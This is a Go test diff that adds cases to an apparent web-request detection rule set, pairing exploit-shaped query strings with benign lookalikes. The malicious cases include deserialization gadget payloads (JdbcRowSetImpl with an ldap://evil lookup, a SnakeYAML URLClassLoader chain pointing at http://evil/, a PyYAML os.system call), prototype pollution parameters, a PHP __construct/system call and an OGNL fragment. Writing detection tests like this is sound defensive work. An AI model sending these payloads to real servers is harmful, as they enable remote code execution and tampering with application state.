@@ -89,3 +89,46 @@ func TestSigS17EscapedTemplateTag(t *testing.T) {
 		}
 	}
 }
+
+// TestSigS17ExploitParameters: request shapes an exploit needs whatever
+// the product: a serializer's type tag naming a class, prototype
+// pollution through a parameter's name, a PHP magic method as the method
+// to dispatch, Struts' %{(#...)} OGNL; and what ordinary clients send
+// with the same words.
+func TestSigS17ExploitParameters(t *testing.T) {
+	m := mustCompile(t, Options{})
+	for _, c := range []s12Case{
+		{"GET", "/app", `x={"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil/x","autoCommit":true}`, "", 200, "deserialization-type-tag", true},
+		{"GET", "/app", `x={"@type":"Lcom.sun.rowset.JdbcRowSetImpl;"}`, "", 200, "deserialization-type-tag", true},
+		{"GET", "/app", `x=["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://evil/x"}]`, "", 200, "deserialization-type-tag", true},
+		{"GET", "/app", "x=!!javax.script.ScriptEngineManager+[!!java.net.URLClassLoader+[[!!java.net.URL+[%22http://evil/%22]]]]", "", 200, "deserialization-type-tag", true},
+		{"GET", "/app", "x=!!python/object/apply:os.system+[%22id%22]", "", 200, "deserialization-type-tag", true},
+		{"GET", "/api", `data={"@context":"https://schema.org","@type":"Product","name":"x"}`, "", 200, "deserialization-type-tag", false},
+		{"GET", "/api", `data={"@type":"https://schema.org/Product"}`, "", 200, "deserialization-type-tag", false},
+		{"GET", "/api", "yaml=a:+!!str+1&b=x:+!!map+{a:+1}", "", 200, "deserialization-type-tag", false},
+		{"GET", "/api", `tags=["com.example","org.example"]`, "", 200, "deserialization-type-tag", false},
+
+		{"GET", "/", "__proto__[isAdmin]=true", "", 200, "prototype-pollution-param", true},
+		{"GET", "/api", "constructor[prototype][isAdmin]=true", "", 200, "prototype-pollution-param", true},
+		{"GET", "/api", "a[__proto__][b]=1", "", 200, "prototype-pollution-param", true},
+		{"GET", "/api", "__proto__.polluted=1", "", 200, "prototype-pollution-param", true},
+		{"GET", "/api", `data={"__proto__":{"isAdmin":true}}`, "", 200, "prototype-pollution-param", true},
+		{"GET", "/api", `data={"constructor":{"prototype":{"x":1}}}`, "", 200, "prototype-pollution-param", true},
+		{"GET", "/search", "q=__proto__+pollution+lodash", "", 200, "prototype-pollution-param", false},
+		{"GET", "/search", "q=what+is+constructor.prototype", "", 200, "prototype-pollution-param", false},
+		{"GET", "/api", "sort=prototype&constructor=lego", "", 200, "prototype-pollution-param", false},
+
+		{"GET", "/index.php", "s=captcha&_method=__construct&filter[]=system&method=get", "", 200, "php-magic-method-call", true},
+		{"GET", "/index.php", "action=__destruct", "", 200, "php-magic-method-call", true},
+		{"GET", "/search", "q=__construct", "", 200, "php-magic-method-call", false},
+		{"GET", "/x", "method=get&action=list", "", 200, "php-magic-method-call", false},
+		{"GET", "/docs", "action=view&page=__construct", "", 200, "php-magic-method-call", false},
+
+		{"GET", "/index.action", "x=%25{(%23_='multipart/form-data')}", "", 200, "ognl-injection", true},
+		{"GET", "/api", "fmt=%25{time}s+%25{remote}h", "", 200, "ognl-injection", false},
+	} {
+		if got := s12Fires(t, m, c); got != c.want {
+			t.Errorf("%s %s?%s (%d): %s fired %v, want %v", c.method, c.path, c.query, c.status, c.rule, got, c.want)
+		}
+	}
+}
